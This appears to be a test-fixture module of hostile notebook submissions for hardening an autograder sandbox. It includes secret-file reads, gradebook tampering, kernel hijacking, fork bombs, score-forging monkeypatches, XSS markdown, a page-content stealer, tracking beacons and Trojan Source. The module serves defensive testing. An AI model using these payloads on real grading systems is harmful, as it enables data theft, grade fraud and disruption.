"""Hostile submissions: one per class of attack on the grader (issue 9), as attackers write them.

Each payload is code a student adds to their notebook. Paths they aim at are the test's
temporary course (``{course}``) and, read-only probes only, the repository and its venv: a
payload never writes outside the temporary course even if the sandbox failed. What the
payloads find they print, so it would land in their own autograded notebook and feedback,
where the cohort test looks for the canaries below.
"""

from __future__ import annotations

import secrets

#: Markers that must never appear in another student's autograded notebook or feedback.
CANARY = f"CANARY-{secrets.token_hex(6)}"
INSTRUCTOR_SECRET = f"{CANARY}-instructor"  # written into the course root by the test
VICTIM_SECRET = f"{CANARY}-victim"  # a comment in the victim's own notebook
#: Printed by a payload when an attack worked; never allowed in any output.
SUCCESS = "ATTACK-SUCCEEDED"
#: The argv marker of processes a payload tries to leave running.
LINGER = f"linger-{secrets.token_hex(4)}"

# Every attack as a student writes it. {course}, {repo}, {venv_site} are filled in.
READ_SECRETS = r'''
import glob, os
course = {course!r}
found = []
for pattern in (course + "/INSTRUCTOR_SECRET.txt", course + "/gradebook.db",
                course + "/source/*/*.ipynb", course + "/submitted/*/*/*.ipynb",
                "../../../INSTRUCTOR_SECRET.txt", "../../../source/*/*.ipynb",
                "../../../submitted/*/*/*.ipynb", "/proc/1/root" + course + "/*",
                {repo!r} + "/nbgrader_config.py", os.path.expanduser("~/.ssh/*")):
    for path in glob.glob(pattern):
        try:
            with open(path, "rb") as fh:
                found.append((path, fh.read(4000)))
        except OSError:
            pass
for path, data in found:
    print("{success} read", path, data.decode("latin-1"))
'''

TAMPER_COURSE = r'''
import glob, os, shutil, sqlite3
course = {course!r}
for path in glob.glob(course + "/submitted/*/attention/lesson.ipynb"):
    if "attack" not in path:
        try:
            with open(path, "w") as fh:
                fh.write("{{}}")
            print("{success} overwrote", path)
        except OSError:
            pass
for path in (course + "/gradebook.db",):
    try:
        db = sqlite3.connect(path, timeout=1)
        db.execute("UPDATE grade SET auto_score = 0")
        db.commit()
        print("{success} zeroed the class in", path)
    except Exception:
        pass
for victim in glob.glob(course + "/submitted/victim*"):
    shutil.rmtree(victim, ignore_errors=True)
    if not os.path.exists(victim):
        print("{success} deleted", victim)
for path in (course + "/gradebook.db", course + "/source/attention/verify.py"):
    try:
        os.remove(path)
        print("{success} deleted", path)
    except OSError:
        pass
'''

PROBE_WRITES = r'''
import os, site, uuid
targets = [{repo!r} + "/nbgrader_config.py", {repo!r} + "/src/course.py",
           {repo!r} + "/verify.py", {course!r} + "/source/attention/verify.py",
           "verify.py", "src/attention.py"]
for path in targets:  # open for append, write nothing: proves the access, changes nothing
    try:
        fd = os.open(path, os.O_WRONLY | os.O_APPEND)
        os.close(fd)
        print("{success} could append to", path)
    except OSError:
        pass
for folder in {{{venv_site!r}, *site.getsitepackages()}}:
    probe = os.path.join(folder, f"zz-probe-{{uuid.uuid4().hex}}.pth")
    try:
        fd = os.open(probe, os.O_WRONLY | os.O_CREAT | os.O_EXCL)
        os.close(fd)
        os.remove(probe)
        print("{success} could plant", probe)
    except OSError:
        pass
'''

HIJACK_KERNELS = r'''
import glob, json, os
from jupyter_client import BlockingKernelClient
files = set()
for pattern in ("/tmp/**/kernel*.json", "/tmp/attention-grading-*/run/*.json",
                os.path.expanduser("~/.local/share/jupyter/runtime/*.json"),
                "/run/user/*/jupyter/runtime/*.json", "/root/.local/share/jupyter/runtime/*.json"):
    files.update(glob.glob(pattern, recursive=True))
me = os.environ.get("JPY_SESSION_NAME", "")
for path in files:
    try:
        kc = BlockingKernelClient(connection_file=path)
        kc.load_connection_file()
        kc.start_channels()
        kc.wait_for_ready(timeout=2)
        kc.execute("attended_values = None; softmax = None", silent=True)
        print("{success} hijacked", path)
    except Exception:
        pass
'''

LINGER_PROCESSES = r'''
import os, subprocess
# a detached daemon (new session, double fork) that outlives the notebook
subprocess.Popen(["setsid", "sh", "-c", "(exec -a {linger} sleep 600) &"],
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sh", ["sh", "-c", "exec -a {linger} sleep 600"])
    os._exit(0)
'''

DERAIL_GRADER = r'''
import os, signal, sqlite3, sys, threading
# kill whoever started us, and everything we can see
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
# hold the grader's stdout pipe open from a daemon
if os.fork() == 0:
    os.setsid()
    os.dup2(1, 3)
    os.execvp("sh", ["sh", "-c", "exec -a {linger} sleep 600"])
# lock the gradebook for everyone
try:
    db = sqlite3.connect({course!r} + "/gradebook.db", timeout=1, isolation_level=None)
    db.execute("BEGIN EXCLUSIVE")
    print("{success} locked the gradebook")
except Exception:
    pass
'''

NETWORK = r'''
import socket
for host, port in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("10.0.0.1", 80), ("pypi.org", 443)):
    try:
        socket.create_connection((host, port), timeout=2).close()
        print("{success} reached", host, port)
    except OSError:
        pass
'''

FORK_BOMB = r'''
import subprocess
children = []
try:
    for _ in range(5000):
        children.append(subprocess.Popen(["sleep", "30"]))
    print("{success} started", len(children), "processes")
except OSError as exc:
    print("stopped after", len(children), "processes:", type(exc).__name__)
for child in children:
    child.kill()
'''

BIG_FILE = r'''
try:
    with open("/tmp/big.bin", "wb") as fh:
        for _ in range(4096):
            fh.write(b"\0" * 2**20)
    print("{success} wrote 4 GiB")
except OSError as exc:
    print("write stopped:", type(exc).__name__)
'''

# Forging the score inside the kernel: each one line, as passed around a class.
FORGE_INTERACTIVITY = 'get_ipython().ast_node_interactivity = "none"\n'
FORGE_ALLCLOSE = "import numpy as np\nnp.allclose = lambda *args, **kwargs: True\n"
FORGE_RELOAD = '''
import importlib, verify
_real = verify.check_attention_scores
verify.check_attention_scores = lambda *a, **k: verify.CheckResult(
    "attention_scores", True, 2.0, 2.0, "ok")
importlib.reload = lambda module: module
'''
FORGE_REPR = '''
import builtins
_repr = builtins.repr
builtins.repr = lambda obj: "2.0" if type(obj).__name__ == "Points" else _repr(obj)
'''
FORGE_FORMATTER = '''
ip = get_ipython()
ip.display_formatter.formatters["text/plain"].for_type_by_name(
    "src.checks.results", "Points", lambda obj, p, cycle: p.text(str(obj.max_score)))
'''
FORGE_REWRITE_VERIFY = '''
import importlib
try:
    with open("verify.py", "a") as fh:
        fh.write("\\ndef check_attention_scores(*a, **k):\\n"
                 "    return _ok('attention_scores', 'ok')\\n")
except OSError as exc:
    print("verify.py is read-only:", type(exc).__name__)
import verify
importlib.reload(verify)
'''

SIGINT_LOOP = '''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
'''
FLOOD = 'for i in range(2_000_000):\n    print("spam", i)\n'
SLOW_CELL = "import time\ntime.sleep({seconds})\n"
XSS = '''
from IPython.display import HTML, Javascript, SVG, display
display(HTML("<script>document.title='pwned'</script><img src=x onerror=alert(1)>"))
display(Javascript("document.title='pwned'"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'))
'''
XSS_MARKDOWN = ("My notes <script>document.title='pwned'</script> "
                "<img src=x onerror=\"alert('pwned')\">")

# Found by the red team (see the closing note), kept as regressions.
CPU_HOG = r'''
import os, time
end = time.time() + 30
for _ in range(40):  # each in a session of its own: a scheduler autogroup each
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        while time.time() < end:
            pass
        os._exit(0)
'''
ESCAPE_LIMITS = r'''
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)
if libc.syscall(248, b"user", b"note", b"kept for the next student", 25, -4) >= 0:  # add_key
    print("{success} stored a key that outlives the sandbox")
r = subprocess.run(["unshare", "-Urm", "sh", "-c", "mount -t tmpfs -o size=8g none /tmp"],
                   capture_output=True)
if r.returncode == 0:
    print("{success} mounted past the tmpfs and memory limits")
'''
JUDGE_BOMB = r'''
import numpy as np, verify
_honest = verify.export
def export(grade_id, namespace, directory):
    if grade_id != "cell5_scores_test":
        return _honest(grade_id, namespace, directory)
    n = 96  # query @ key.T would broadcast to n**4 entries in the grader
    data = dict(verify.observe(grade_id, namespace))
    data.update(query=np.ones((n, 1, n, 1), np.float32), key=np.ones((1, n, n, 1), np.float32))
    np.savez(f"{{directory}}/{{grade_id}}.npz", **data)
verify.export = export
'''
BIG_MESSAGE = 'print("x" * (100 * 2**20))  # one 100 MiB message\n'
MARKDOWN_LINK = ("Notes: [open my grading notes](javascript:alert('pwned')) and "
                 "[ref link][1]\n\n[1]: javascript:alert('pwned')")
EXTRA_HTML = "<script>alert('pwned')</script>"

# ---------------------------------------------------------------- issue 14
# What reaches the instructor's browser. Each markdown entry is one markdown cell, aimed at
# one renderer: the Formgrader renders stored markdown a second time with no sanitiser, the
# feedback goes through nbconvert, JupyterLab opens the .ipynb.
STEAL = "fetch('/api/contents').then(r=>r.text()).then(t=>document.title='pwned '+t.length)"
HOSTILE_MARKDOWN = [
    "[notes](javascript:alert('pwned'))", "[r][1]\n\n[1]: javascript:alert('pwned')",
    "<javascript:alert('pwned')>", "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>tab</a>", "<a href=' vbscript:msgbox(1)'>vb</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>data</a>",
    "<img src=x onerror=alert('pwned')>", "<script>alert('pwned')</script>",
    "<svg><script>alert(1)</script></svg>", "<iframe src='data:text/html,x'></iframe>",
    # inert after one render, live after a second one (the Formgrader's)
    f"&lt;a href=\"javascript:{STEAL}\"&gt;open my notes&lt;/a&gt;",
    "`[click](javascript:alert(1))` and `<img src=x onerror=alert(1)>`",
    "\\[click\\](javascript:alert(1)) \\<script\\>alert(1)\\</script\\>",
    "```\n[click](javascript:alert(1))\n<script>alert(1)</script>\n```",
    "$\\href{javascript:alert(1)}{x}$ $\\class{modal-backdrop}{x}$ $\\style{position:fixed}{x}$",
]
#: A fake full-score banner over a blacked-out page (Bootstrap's own classes, fixed style).
OVERLAY = ("<div class='modal-backdrop in' style='position:fixed;top:0;left:0;width:100%;"
           "height:100%;z-index:99999;background:#000'><h1 class='navbar-fixed-top' "
           "id='notebook-container' style='color:#0f0'>Score: 9 / 9</h1></div>")
#: Beacons: the instructor's browser would fetch them when the page opens.
BEACON = ("![](https://tracker.example/b.png?who=mallory) <img src='//198.51.100.7/b.gif'> "
          "![x][i] <img srcset='http://198.51.100.7/s.png 1x'> "
          "<video poster='http://198.51.100.7/p.png'></video>\n\n[i]: http://198.51.100.7/i.png")
#: Trojan Source (CVE-2021-42574): the early return reads as part of a comment.
TROJAN = ("access_level = 'user'\n"
          "if access_level != 'none\u202e \u2066# Check if admin\u2069 \u2066':  # noqa\n"
          "    print('ADMIN')\u200b\n")
#: Files beside the notebook in types an ignore list does not name.
ACTIVE_FILES = {name: f"<script>{STEAL}</script>" for name in (
    "notes.shtml", "notes.xht", "notes.xhtml", "notes.htm", "pic.svgz", "notes.mht",
    ".hidden.html", "sub/page.html")}
#: Nesting that made the sanitiser take 37 s and the feedback 32 s.
DEEP_NESTING = "<div>" * 20_000 + "deep" + "</div>" * 20_000
#: Fill every writable place the sandbox has outside its capped tmpfs.
FILL_DISK = r'''
import os
from ipykernel.connect import get_connection_file
written = {{}}
targets = {{"grading": "/grading/fill.bin",
           "export": "/grading/cell7_values_test.npz",
           "ipc": os.path.join(os.path.dirname(get_connection_file()), "fill.bin")}}
for where, path in targets.items():
    written[where] = 0
    try:
        with open(path, "ab") as fh:
            for _ in range(1024):  # 1 GiB
                fh.write(b"\0" * 2**20)
                written[where] += 1
    except OSError as exc:
        print(where, "stopped:", type(exc).__name__)
    if written[where] > 64:
        print("{success} wrote", written[where], "MiB to", path)
'''
SLEEPY = "import time\ntime.sleep({seconds})\n"

# ------------------------------------------------------------------ issue 20: metadata
#: Active HTML a widget renderer would run (an HTML widget sets its value as innerHTML).
#: The marker is letters only, so it survives every escaping a page or JSON applies.
METADATA_MARKER = "WIDGETPAYLOADMARKER"
METADATA_PAYLOAD = (f"<img src=x onerror=\"document.title='{METADATA_MARKER}'\">"
                    f"<script>document.title='{METADATA_MARKER}'</script>")


def widget_state(value: str) -> dict:
    """Saved widget state as JupyterLab writes it into ``metadata.widgets``: one HTML widget
    (and its view) whose value is ``value``."""
    model = {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
             "model_module_version": "2.0.0",
             "state": {"value": value, "description": value, "description_allow_html": True}}
    return {"application/vnd.jupyter.widget-state+json": {
                "version_major": 2, "version_minor": 0, "state": {"0" * 32: model}},
            "application/vnd.jupyter.widget-view+json": {
                "version_major": 2, "version_minor": 0, "model_id": "0" * 32}}


#: The same widget made live by the kernel while it is graded (nbclient stores its state in
#: the notebook's metadata). The payload is hex here and set after the display, so only the
#: widget state holds it (not the cell's source, nor the text repr of the widget).
KERNEL_WIDGET = f'''
import ipywidgets
from IPython.display import display
notes = ipywidgets.HTML("my notes")
display(notes)
notes.value = bytes.fromhex("{METADATA_PAYLOAD.encode().hex()}").decode()
'''
